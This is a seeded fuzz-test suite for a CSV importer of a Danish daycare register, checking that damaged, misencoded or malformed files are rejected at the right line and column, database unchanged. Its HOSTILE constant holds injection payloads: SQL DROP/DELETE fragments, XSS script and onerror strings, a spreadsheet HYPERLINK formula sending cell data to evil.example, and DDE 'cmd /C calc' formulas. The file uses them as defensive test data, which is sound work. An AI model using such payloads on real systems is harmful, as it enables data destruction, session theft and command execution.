import fs from "node:fs";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Database } from "../../lib/db/client";
import { ImportError } from "../../lib/import/import-error";
import { importSnapshot } from "../../lib/import/import-snapshot";
import { MAX_FIELD_LENGTH } from "../../lib/import/row-reader";
import { ALTERNATIV_ADRESSE_COLUMNS, ANVISNINGSENHED_COLUMNS, DAGINSTITUTION_COLUMNS, OFFICIAL_FILE_NAMES } from "../../lib/official-format/columns";
import { writeOfficialCsv } from "../../lib/official-format/csv-writer";
import { anvisningsenhed, daginstitution, smallSnapshot, tempDir, writeSnapshotFiles, type CsvRecord } from "../helpers/fixtures";
import { concat, differencesFromFiles, dropSavedState, fingerprint, interestingOffsets, mutate, restoreState, Rng, saveState, singleByte, utf16, utf8, WINDOWS_1252 } from "../helpers/fuzz";
import { openTestDatabase } from "../helpers/test-database";

const day = (iso: string) => new Date(`${iso}T00:00:00Z`);
const UNITS = OFFICIAL_FILE_NAMES.anvisningsenheder;
const DAGINST = OFFICIAL_FILE_NAMES.daginstitutioner;
const ALT = OFFICIAL_FILE_NAMES.alternativeAdresser;
type FileName = typeof UNITS | typeof DAGINST | typeof ALT;

/** The day after the baseline: a renamed daginstitution, a unit with a quoted name, and a new unit whose name spans two lines. */
function nextDayLevels() {
  const levels = smallSnapshot();
  levels.daginstitutioner[1] = daginstitution("D10002", { ejerformKode: "3", ejerformKode_Tekst: "Privat", lovgrundlagKode: "4", daginstitutionsNavn: "Den Private Have" });
  levels.anvisningsenheder[1] = anvisningsenhed("G10003", "E10001", { instType3: "6010", instType3_Tekst: "Vuggestue", anvisningsenhedsNavn: 'Vuggestuen "Mælkebøtten"; afd. Øst', telefonNummer: "87 65 43 21" });
  levels.anvisningsenheder.push(anvisningsenhed("G10007", "D10002", { anvisningsenhedsNavn: "Klubben\r\nved Åen", kommuneKode: "147", postNummer: "2000", byNavn: "Frederiksberg" }));
  return levels;
}
const unitsCsv = (units: CsvRecord[] = nextDayLevels().anvisningsenheder, columns: readonly string[] = ANVISNINGSENHED_COLUMNS) => writeOfficialCsv(columns, units);
/** The next day's units file with some fields replaced. */
function unitsWith(changes: Record<string, CsvRecord>): string {
  return unitsCsv(nextDayLevels().anvisningsenheder.map((unit) => ({ ...unit, ...changes[unit.anvisningsenhedsNummer] })));
}

const VALID: Record<FileName, Uint8Array> = (() => {
  const levels = nextDayLevels();
  return {
    [DAGINST]: utf8(writeOfficialCsv(DAGINSTITUTION_COLUMNS, levels.daginstitutioner)),
    [UNITS]: utf8(unitsCsv()),
    [ALT]: utf8(writeOfficialCsv(ALTERNATIV_ADRESSE_COLUMNS, levels.alternativeAdresser)),
  } as Record<FileName, Uint8Array>;
})();
/** Lines of the valid units file: 1 header, 2 G10001, 3 G10003, 4 G10005, 5-6 G10007 (its name spans two lines). */
const UNITS_TEXT = unitsCsv();
const UNITS_LINES = UNITS_TEXT.split("\r\n");
const ROW_START_OF_LINE: Record<number, number> = { 1: 1, 2: 2, 3: 3, 4: 4, 5: 5, 6: 5 };

type VerbatimField = "navn" | "vejNavn" | "byNavn" | "email" | "husNummer" | "supplerendeBynavn";
type Expectation =
  | { outcome: "rejected"; line: number | null; column: string | null; reason: RegExp }
  | { outcome: "accepted"; verbatim?: { nummer: string; field: VerbatimField; value: string }[] }
  /** Random damage: the importer decides; a rejection must lie on one of `lines` when they are given. */
  | { outcome: "either"; lines?: number[] };
type Variant = { name: string; target: FileName; bytes: Uint8Array; expect: Expectation };
const rejected = (line: number | null, column: string | null, reason: RegExp): Expectation => ({ outcome: "rejected", line, column, reason });
const accepted: Expectation = { outcome: "accepted" };

let db: Database & { dir: string | null };
let dir: string;
let baseline: Record<string, string>;
let snapshotsBefore: number;

beforeAll(async () => {
  db = await openTestDatabase();
  dir = tempDir("dagtilbud-fuzz-");
  await importSnapshot(db, writeSnapshotFiles(path.join(dir, "baseline"), smallSnapshot()), { snapshotDato: day("2026-11-20") });
  await saveState(db);
  baseline = await fingerprint(db);
  snapshotsBefore = await db.prisma.snapshot.count();
});
afterAll(async () => {
  if (db) await dropSavedState(db);
  await db?.close();
  if (dir) fs.rmSync(dir, { recursive: true, force: true });
});

const physicalLines = (bytes: Uint8Array) => 1 + bytes.filter((b) => b === 0x0a).length - (bytes.at(-1) === 0x0a ? 1 : 0);
/** Rejections whose fault has no place in the file, and faults of a whole row (its field count) that have no column. */
const UNPLACED = /the file is empty|has a header but no rows/;
const WHOLE_ROW = /Invalid Record Length|not one of the register's export files/;

type Tally = { accepted: number; rejected: number; slowestMs: number };

function writeFiles(files: Record<string, Uint8Array>): string[] {
  return Object.entries(files).map(([name, bytes]) => {
    const file = path.join(dir, name);
    fs.writeFileSync(file, bytes);
    return file;
  });
}

/**
 * Imports one variant (with the next day's other two files, valid) and checks the invariant: a typed rejection
 * naming the file and the fault's line and column, with the database byte-identical; or an import that stored exactly
 * what the files say, all of it. Afterwards the baseline is back. Returns what was violated.
 */
async function check(variant: Variant, tally: Tally): Promise<string[]> {
  const files = { ...VALID, [variant.target]: variant.bytes };
  const problems: string[] = [];
  const fail = (text: string) => problems.push(`${variant.name}: ${text}`);
  if (variant.expect.outcome !== "either" && Buffer.compare(variant.bytes, VALID[variant.target]) === 0) fail("the variant is the valid file");

  const started = Date.now();
  let error: unknown = null;
  try {
    await importSnapshot(db, writeFiles(files), { snapshotDato: day("2026-11-21") });
  } catch (caught) {
    error = caught;
  }
  tally.slowestMs = Math.max(tally.slowestMs, Date.now() - started);

  if (error !== null) {
    tally.rejected++;
    if (!(error instanceof ImportError)) {
      fail(`crashed with ${error instanceof Error ? `${error.name}: ${error.message.slice(-300)}` : String(error)}`);
    } else {
      const { line, column, reason, message } = error;
      const expectation = variant.expect;
      if (error.file !== variant.target || !message.startsWith(`${variant.target}`)) fail(`the rejection names ${error.file}, not ${variant.target}: ${message}`);
      if (expectation.outcome === "accepted") fail(`a valid file was rejected: ${message}`);
      else if (expectation.outcome === "rejected") {
        if (line !== expectation.line || column !== expectation.column) fail(`located at line ${line}, column ${column} instead of line ${expectation.line}, column ${expectation.column}: ${message}`);
        if (!expectation.reason.test(reason)) fail(`the reason does not match ${expectation.reason}: ${message}`);
      } else if (UNPLACED.test(reason)) {
        if (line !== null || column !== null) fail(`a fault without a place is given one: ${message}`);
      } else {
        if (line === null || line < 1 || line > physicalLines(variant.bytes)) fail(`the line is not in the file: ${message}`);
        else if (expectation.lines && !expectation.lines.includes(line)) fail(`the line is not one of ${expectation.lines.join(", ")}: ${message}`);
        if (column === null && !WHOLE_ROW.test(reason)) fail(`no column: ${message}`);
      }
    }
    const after = await fingerprint(db);
    for (const table of Object.keys(baseline)) if (after[table] !== baseline[table]) fail(`the rejected import changed table ${table}`);
    return problems;
  }

  tally.accepted++;
  if (variant.expect.outcome === "rejected") fail("a file that must be rejected was accepted");
  if ((await db.prisma.snapshot.count()) !== snapshotsBefore + 1) fail("the import did not record exactly one snapshot");
  for (const difference of await differencesFromFiles(db, Object.entries(files).map(([name, bytes]) => ({ name, bytes })))) fail(difference);
  if (variant.expect.outcome === "accepted") {
    for (const { nummer, field, value } of variant.expect.verbatim ?? []) {
      const stored = await db.prisma.anvisningsenhed.findUnique({ where: { nummer }, select: { [field]: true } });
      if (stored?.[field] !== value) fail(`${nummer}.${field} is stored as ${JSON.stringify(stored?.[field])}, not verbatim ${JSON.stringify(value)}`);
      // The history keeps the text verbatim too: the record's name on every change, and the changed field's new value.
      const changes = await db.prisma.aendring.findMany({ where: { nummer }, select: { navn: true, felt: true, efter: true } });
      if (field === "navn" && (changes.length === 0 || changes.some((c) => c.navn !== value))) fail(`the change records of ${nummer} name it ${JSON.stringify(changes.map((c) => c.navn))}`);
      if (field !== "navn" && nummer !== "G10007" && !changes.some((c) => c.felt === field && c.efter === value)) fail(`no change record of ${nummer}.${field} holds the new value verbatim`);
    }
  }
  await restoreState(db);
  const restored = await fingerprint(db);
  for (const table of Object.keys(baseline)) if (restored[table] !== baseline[table]) fail(`restoring the baseline left table ${table} changed`);
  return problems;
}

async function checkAll(variants: Variant[]): Promise<{ problems: string[]; tally: Tally }> {
  const tally: Tally = { accepted: 0, rejected: 0, slowestMs: 0 };
  const problems: string[] = [];
  for (const variant of variants) problems.push(...(await check(variant, tally)));
  return { problems, tally };
}

/** Far below the test timeout, so one pathological file shows up by name rather than as a timed-out test. */
const SLOWEST_IMPORT_MS = 10_000;

// ---- the variants ------------------------------------------------------------------------------------------------

function truncations(): Variant[] {
  const bytes = VALID[UNITS];
  const offsets = interestingOffsets(bytes);
  const rng = new Rng(7);
  const midLine = Array.from({ length: 40 }, () => rng.pick(offsets.midLine));
  const chosen = [...new Set([0, 1, 2, 3, ...offsets.lineEnds, ...offsets.quotes, ...offsets.midUtf8, ...midLine, bytes.length - 1, bytes.length - 2])].sort((a, b) => a - b);
  return chosen.map((at) => {
    const kept = bytes.subarray(0, at);
    const cutLine = physicalLines(kept);
    return { name: `truncated at byte ${at} of ${bytes.length}`, target: UNITS, bytes: kept, expect: { outcome: "either", lines: [ROW_START_OF_LINE[cutLine], cutLine] } };
  });
}

const CORRUPTED_FILES = 60;
function corruptions(): { variants: Variant[]; mutations: number } {
  const rng = new Rng(20261121);
  const targets: FileName[] = [UNITS, UNITS, DAGINST, ALT];
  let total = 0;
  const variants = Array.from({ length: CORRUPTED_FILES }, (_, i): Variant => {
    const target = rng.pick(targets);
    const { bytes, mutations } = mutate(VALID[target], rng, 3 + rng.int(4));
    total += mutations.length;
    return { name: `corruption #${i} of ${target} (${mutations.map((m) => `${m.kind} ${m.byte} at ${m.offset}`).join(", ")})`, target, bytes, expect: { outcome: "either" } };
  });
  return { variants, mutations: total };
}

function encodings(): Variant[] {
  const text = UNITS_TEXT.replace(/^\uFEFF/, "");
  const marker = "\u0001MARK\u0001";
  const spliced = (csv: string, raw: number[]) => {
    const [head, tail] = csv.split(marker);
    return concat(utf8(head), raw, utf8(tail));
  };
  const withBytesIn = (nummer: string, field: string, before: string, raw: number[], after: string) => spliced(unitsWith({ [nummer]: { [field]: `${before}${marker}${after}` } }), raw);
  const daginstitutionNamed = (name: string) => {
    const levels = nextDayLevels();
    levels.daginstitutioner[0] = daginstitution("E10001", { daginstitutionsNavn: name });
    return writeOfficialCsv(DAGINSTITUTION_COLUMNS, levels.daginstitutioner);
  };
  const notUtf8 = /not valid UTF-8/;
  const nul = /NUL byte/;
  return [
    { name: "Latin-1 without BOM", target: UNITS, bytes: singleByte(text), expect: rejected(2, "anvisningsenhedsNavn", notUtf8) },
    { name: "Latin-1 behind a UTF-8 BOM", target: UNITS, bytes: concat([0xef, 0xbb, 0xbf], singleByte(text)), expect: rejected(2, "anvisningsenhedsNavn", notUtf8) },
    { name: "Windows-1252 ø and dash in one field of a UTF-8 file", target: UNITS, bytes: withBytesIn("G10005", "byNavn", "H", [...singleByte("øje–Taastrup", WINDOWS_1252)], ""), expect: rejected(4, "byNavn", notUtf8) },
    { name: "Windows-1252 quotes and € in a daginstitution name", target: DAGINST, bytes: spliced(daginstitutionNamed(`Børnehuset ${marker}`), [...singleByte("“Solsikken” € afd.", WINDOWS_1252)]), expect: rejected(2, "daginstitutionsNavn", notUtf8) },
    { name: "UTF-16 LE with BOM", target: UNITS, bytes: utf16(text, "le", true), expect: rejected(1, "1", notUtf8) },
    { name: "UTF-16 BE with BOM", target: UNITS, bytes: utf16(text, "be", true), expect: rejected(1, "1", notUtf8) },
    { name: "UTF-16 LE without BOM", target: UNITS, bytes: utf16(text, "le", false), expect: rejected(1, "1", nul) },
    { name: "UTF-16 BE without BOM", target: UNITS, bytes: utf16(text, "be", false), expect: rejected(1, "1", nul) },
    { name: "an overlong encoding of /", target: UNITS, bytes: withBytesIn("G10003", "vejNavn", "Øster", [0xc0, 0xaf], "Allé"), expect: rejected(3, "vejNavn", notUtf8) },
    { name: "a lone continuation byte", target: UNITS, bytes: withBytesIn("G10001", "email", "a", [0x80], "@b.dk"), expect: rejected(2, "email", notUtf8) },
    { name: "a sequence cut short by the delimiter", target: UNITS, bytes: withBytesIn("G10005", "husNummer", "12", [0xe2, 0x82], ""), expect: rejected(4, "husNummer", notUtf8) },
    { name: "a UTF-8 encoded surrogate", target: UNITS, bytes: withBytesIn("G10001", "byNavn", "K", [0xed, 0xa0, 0x80], "benhavn"), expect: rejected(2, "byNavn", notUtf8) },
    { name: "a code point above U+10FFFF", target: UNITS, bytes: withBytesIn("G10003", "supplerendeBynavn", "", [0xf4, 0x90, 0x80, 0x80], ""), expect: rejected(3, "supplerendeBynavn", notUtf8) },
    { name: "0xFF on the second line of a quoted two-line name", target: UNITS, bytes: withBytesIn("G10007", "anvisningsenhedsNavn", "Klubben\r\nved ", [0xff], "Åen"), expect: rejected(6, "anvisningsenhedsNavn", notUtf8) },
    { name: "an invalid byte in the header's second column", target: UNITS, bytes: utf8(text).map((b, i) => (i === 30 ? 0xfe : b)), expect: rejected(1, "2", notUtf8) },
    { name: "a NUL inside a name", target: UNITS, bytes: withBytesIn("G10001", "anvisningsenhedsNavn", "Børne", [0x00], "huset"), expect: rejected(2, "anvisningsenhedsNavn", nul) },
    { name: "a NUL as a whole field", target: UNITS, bytes: withBytesIn("G10005", "etage", "", [0x00], ""), expect: rejected(4, "etage", nul) },
    { name: "a NUL in the header's third column", target: UNITS, bytes: utf8(text.replace("dawaId", "dawa\u0000Id")), expect: rejected(1, "3", nul) },
    { name: "a NUL after the last line break", target: UNITS, bytes: concat(utf8(text), [0x00]), expect: rejected(7, "anvisningsenhedsNummer", nul) },
    { name: "UTF-8 without BOM (valid)", target: UNITS, bytes: utf8(text), expect: accepted },
    { name: "UTF-8 with two BOMs (valid)", target: UNITS, bytes: utf8(`\uFEFF\uFEFF${text}`), expect: accepted },
  ];
}

function structural(): Variant[] {
  const text = UNITS_TEXT;
  const units = nextDayLevels().anvisningsenheder;
  const header = ANVISNINGSENHED_COLUMNS.join(";");
  const v = (name: string, content: string | Uint8Array, expect: Expectation): Variant => ({ name, target: UNITS, bytes: typeof content === "string" ? utf8(content) : content, expect });
  const withColumns = (columns: string[], rows: CsvRecord[] = units) => unitsCsv(rows, columns);
  const without = (...dropped: string[]) => withColumns(ANVISNINGSENHED_COLUMNS.filter((c) => !dropped.includes(c)));
  const renaming = (names: Record<string, string>) =>
    withColumns(ANVISNINGSENHED_COLUMNS.map((c) => names[c] ?? c), units.map((u) => ({ ...u, ...Object.fromEntries(Object.entries(names).map(([from, to]) => [to, u[from]])) })));
  const inLine = (line: number, from: string, to: string) => text.replace(UNITS_LINES[line - 1], UNITS_LINES[line - 1].replace(from, to));
  const extra = Array.from({ length: 20_000 }, (_, i) => `x${i}`);
  const tooLong = /characters long/;
  return [
    v("an empty file", new Uint8Array(0), rejected(null, null, /empty/)),
    v("a BOM and nothing else", "\uFEFF", rejected(null, null, /empty/)),
    v("only empty lines and spaces", "\r\n\n  \r\n", rejected(null, null, /empty/)),
    v("the header only", `\uFEFF${header}\r\n`, rejected(null, null, /header but no rows/)),
    v("the header only, without a line break", header, rejected(null, null, /header but no rows/)),
    v("comma as the delimiter", text.replaceAll(";", ","), rejected(1, null, /not one of the register's export files/)),
    v("tab as the delimiter", text.replaceAll(";", "\t"), rejected(1, null, /not one of the register's export files/)),
    v("the required name column missing", without("anvisningsenhedsNavn"), rejected(1, "anvisningsenhedsNavn", /required column/)),
    v("the required parent column missing", without("daginstitutionsNummer"), rejected(1, "daginstitutionsNummer", /required column/)),
    v("the required name column misspelt", renaming({ anvisningsenhedsNavn: "anvisningsenhedsNavnn" }), rejected(1, "anvisningsenhedsNavn", /required column/)),
    v("expected columns missing (pNummer) or renamed (postNr): stored empty", withColumns(ANVISNINGSENHED_COLUMNS.filter((c) => c !== "pNummer").map((c) => (c === "postNummer" ? "postNr" : c)), units.map((u) => ({ ...u, postNr: u.postNummer }))), accepted),
    v("column names in upper case, the name under its alias ENHEDSNAVN", renaming({ anvisningsenhedsNavn: "enhedsNavn" }).replace(/^\uFEFF[^\r]*/, (h) => h.toUpperCase()), accepted),
    v("20,000 unknown columns in the middle of every row", withColumns([...ANVISNINGSENHED_COLUMNS.slice(0, 5), ...extra, ...ANVISNINGSENHED_COLUMNS.slice(5)], units.map((u) => ({ ...u, ...Object.fromEntries(extra.map((x) => [x, `${x};"`])) }))), accepted),
    v("20,000 extra columns in the header only", text.replace(header, [header, ...extra].join(";")), rejected(2, null, /Invalid Record Length/)),
    v("the name column twice, with other values", withColumns([...ANVISNINGSENHED_COLUMNS, "dup"], units.map((u) => ({ ...u, dup: `Andet navn ${u.anvisningsenhedsNummer}` }))).replace(";dup\r\n", ";anvisningsenhedsNavn\r\n"), rejected(1, "anvisningsenhedsNavn", /appears twice \(columns 2 and 25\)/)),
    v("the key column twice, once under its alias", withColumns([...ANVISNINGSENHED_COLUMNS, "enhedsNummer"], units.map((u) => ({ ...u, enhedsNummer: u.anvisningsenhedsNummer }))), rejected(1, "anvisningsenhedsNummer", /appears twice/)),
    v("a bad coordinate in the row after a lone CR inside an unquoted field", inLine(2, "København K", "Køben\rhavn K").replace(UNITS_LINES[2], UNITS_LINES[2].replace("55,676098", "nord")), rejected(3, "geoBredde", /not a coordinate/)),
    v("a bad coordinate in the row after a quoted two-line name", `${text}${UNITS_LINES[1].replace("55,676098", "nord")}\r\n`, rejected(7, "geoBredde", /not a coordinate/)),
    v("a row with one field too many", inLine(4, "G10005;", "G10005;;"), rejected(4, null, /Invalid Record Length/)),
    v("a row with one field too few", inLine(4, "G10005;Børnehuset G10005;", "G10005;"), rejected(4, null, /Invalid Record Length/)),
    v("a quoted two-line field never closed", text.replace('"Klubben\r\nved Åen"', '"Klubben\r\nved Åen'), rejected(5, "anvisningsenhedsNavn", /never closed/)),
    v("a quote opened in a row above other quoted fields", inLine(4, ";Åboulevard;", ';"Åboulevard;'), rejected(4, null, /Invalid Record Length/)),
    v("bare quotes inside an unquoted field and after a closing quote (the register's dialect)", inLine(2, "Børnehuset G10001", 'Børne"huset G10001').replace('afd. Øst"', 'afd. Øst"x'), accepted),
    v("the same unit twice", `${text}${UNITS_LINES[2]}\r\n`, rejected(7, "anvisningsenhedsNummer", /appears twice/)),
    v("a row of empty fields", `${text}${";".repeat(23)}\r\n`, rejected(7, "anvisningsenhedsNummer", /institution number is empty/)),
    v("a 10 MB name", unitsWith({ G10001: { anvisningsenhedsNavn: "Børnehuset ".repeat(1_000_000) } }), rejected(2, "anvisningsenhedsNavn", tooLong)),
    v("a 3,000-character postNummer (an indexed column)", unitsWith({ G10005: { postNummer: Array.from({ length: 3000 }, (_, i) => String.fromCodePoint(0x4e00 + ((i * 7919) % 20000))).join("") } }), rejected(4, "postNummer", tooLong)),
    v(`a name one character over the ${MAX_FIELD_LENGTH}-character limit`, unitsWith({ G10003: { anvisningsenhedsNavn: "Å".repeat(MAX_FIELD_LENGTH + 1) } }), rejected(3, "anvisningsenhedsNavn", tooLong)),
    v("LF line ends", text.replaceAll("\r\n", "\n"), accepted),
    v("CRLF, LF and CR CR LF line ends mixed, with empty lines", UNITS_LINES.slice(0, -1).map((line, i) => line + ["\r\n", "\n", "\r\r\n", "\n\n", "\r\n", "\r\n\r\n"][i]).join(""), accepted),
    v("CR line ends", text.replaceAll("\r\n", "\r"), rejected(1, "daginstitutionsNummer", /required column/)),
    v("LF CR line ends: a stray CR makes a last row of one field", text.replaceAll("\r\n", "\n\r"), rejected(7, null, /Invalid Record Length/)),
  ];
}

const HOSTILE = {
  sqlDrop: "'; DROP TABLE anvisningsenhed; --",
  sqlDelete: "Robert'); DELETE FROM snapshot WHERE ('1'='1",
  script: "<script>alert(1)</script>",
  img: '"><img src=x onerror=alert(document.cookie)>',
  nullWord: "NULL",
  hyperlink: '=HYPERLINK("http://evil.example/?d="&A1;"Klik her")',
  plus: "+SUM(1;1)",
  minus: "-2+3+cmd|' /C calc'!A0",
  at: "@SUM(A1:A9)",
  equals: "=1+1",
  dde: "=cmd|' /C calc'!A0",
  control: "\u0007Bør\u0001ne\u0008hus\u001b[31m rød\u001b[0m\u007f\u0085!",
  bidi: "\u202Etxt.exe\u202C Børnehus \u200F\u200E\u2066x\u2069",
  combining: "A\u030Aboulevard \u200B\u200D👶🏽 \uD83D\uDC76",
  placeholders: "$1 $& $$ \\N \\. %s %n {{7*7}} ${7*7} __proto__",
  separators: "linje\u2028skift\u2029afsnit",
  quotes: "C:\\Temp\\\"citat\" 'enkelt' `bag`",
  overlongName: "Ø".repeat(133),
  longestValue: `${"Vej ".repeat(MAX_FIELD_LENGTH / 4 - 1)}123`,
};

function hostile(): Variant[] {
  const variant = (name: string, placed: [nummer: string, field: VerbatimField, value: string][]): Variant => {
    const changes: Record<string, CsvRecord> = {};
    for (const [nummer, field, value] of placed) (changes[nummer] ??= {})[field === "navn" ? "anvisningsenhedsNavn" : field] = value;
    return { name, target: UNITS, bytes: utf8(unitsWith(changes)), expect: { outcome: "accepted", verbatim: placed.map(([nummer, field, value]) => ({ nummer, field, value })) } };
  };
  return [
    variant("SQL fragments and HTML/script", [
      ["G10001", "navn", HOSTILE.sqlDrop], ["G10003", "navn", HOSTILE.sqlDelete], ["G10005", "navn", HOSTILE.script], ["G10007", "navn", HOSTILE.img],
      ["G10001", "email", HOSTILE.script], ["G10003", "byNavn", HOSTILE.sqlDrop], ["G10005", "vejNavn", HOSTILE.nullWord], ["G10007", "husNummer", "null"],
    ]),
    variant("spreadsheet formulas (=, +, -, @)", [
      ["G10001", "navn", HOSTILE.hyperlink], ["G10003", "navn", HOSTILE.plus], ["G10005", "navn", HOSTILE.minus], ["G10007", "navn", HOSTILE.at],
      ["G10001", "byNavn", HOSTILE.equals], ["G10003", "email", HOSTILE.dde], ["G10005", "supplerendeBynavn", HOSTILE.at],
    ]),
    variant("control characters, bidi overrides, combining marks, placeholders, and overlong values", [
      ["G10001", "navn", HOSTILE.control], ["G10003", "navn", HOSTILE.bidi], ["G10005", "navn", HOSTILE.combining], ["G10007", "navn", HOSTILE.overlongName],
      ["G10001", "vejNavn", HOSTILE.placeholders], ["G10003", "byNavn", HOSTILE.separators], ["G10005", "email", HOSTILE.quotes], ["G10007", "vejNavn", HOSTILE.longestValue],
    ]),
  ];
}

// ---- the tests ---------------------------------------------------------------------------------------------------

describe("the fuzzing's own checks", () => {
  it("accept the valid next-day snapshot, and notice a single changed value in the database", async () => {
    await importSnapshot(db, writeFiles(VALID), { snapshotDato: day("2026-11-21") });
    const files = Object.entries(VALID).map(([name, bytes]) => ({ name, bytes }));
    expect(await differencesFromFiles(db, files)).toEqual([]);
    const imported = await fingerprint(db);
    await db.prisma.anvisningsenhed.update({ where: { nummer: "G10003" }, data: { vejNavn: "Åboulevard " } });
    expect(await differencesFromFiles(db, files)).toEqual(['anvisningsenheder.csv line 3: G10003.vejNavn is "Åboulevard ", the file says "Åboulevard"']);
    const tampered = await fingerprint(db);
    expect(tampered.anvisningsenhed).not.toBe(imported.anvisningsenhed);
    expect({ ...tampered, anvisningsenhed: "" }).toEqual({ ...imported, anvisningsenhed: "" });
    await restoreState(db);
    expect(await fingerprint(db)).toEqual(baseline);
  });
});

describe("importing damaged or hostile CSV files into a real database (seeded fuzzing)", () => {
  it("a file truncated anywhere (line ends, mid-line, inside quoted fields, inside UTF-8 sequences) is rejected at the cut row, database unchanged, or stored exactly as the shorter file reads", async () => {
    const variants = truncations();
    const { problems, tally } = await checkAll(variants);
    expect(problems).toEqual([]);
    expect(variants.length).toBeGreaterThan(60);
    expect(tally.accepted).toBeGreaterThan(0);
    expect(tally.rejected).toBeGreaterThan(tally.accepted);
    expect(tally.slowestMs).toBeLessThan(SLOWEST_IMPORT_MS);
  });

  it(`${CORRUPTED_FILES} files with seeded random byte corruption (flip, set, insert, delete) are each rejected with file, line and column and the database unchanged, or stored exactly as they read`, async () => {
    const { variants, mutations } = corruptions();
    const { problems, tally } = await checkAll(variants);
    expect(problems).toEqual([]);
    expect(mutations).toBeGreaterThan(200);
    expect(tally.accepted).toBeGreaterThan(0);
    expect(tally.rejected).toBeGreaterThan(tally.accepted);
    expect(tally.slowestMs).toBeLessThan(SLOWEST_IMPORT_MS);
  });

  it("wrongly encoded files (Latin-1, Windows-1252, UTF-16 LE/BE with and without BOM, invalid UTF-8, NUL bytes) are rejected at the line and column of the first bad byte, database unchanged", async () => {
    const variants = encodings();
    const { problems, tally } = await checkAll(variants);
    expect(problems).toEqual([]);
    expect(tally).toMatchObject({ accepted: 2, rejected: variants.length - 2 });
  });

  it("structurally broken files (empty, header only, wrong delimiter, missing/extra/duplicated/renamed columns, unbalanced quotes, a 10 MB field, 20,000 columns, CR/LF mixes) are rejected where the fault is, database unchanged; harmless ones are stored exactly", async () => {
    const variants = structural();
    const { problems, tally } = await checkAll(variants);
    expect(problems).toEqual([]);
    expect(tally.accepted).toBe(variants.filter((variant) => variant.expect.outcome === "accepted").length);
    expect(tally.slowestMs).toBeLessThan(SLOWEST_IMPORT_MS);
  });

  it("hostile text in valid rows (SQL, HTML/script, spreadsheet formulas, control and bidi characters, overlong values) is stored verbatim in the register and its history, nothing executed or altered", async () => {
    const variants = hostile();
    const { problems, tally } = await checkAll(variants);
    expect(problems).toEqual([]);
    expect(tally.accepted).toBe(variants.length);
    expect(await fingerprint(db)).toEqual(baseline);
  });
});
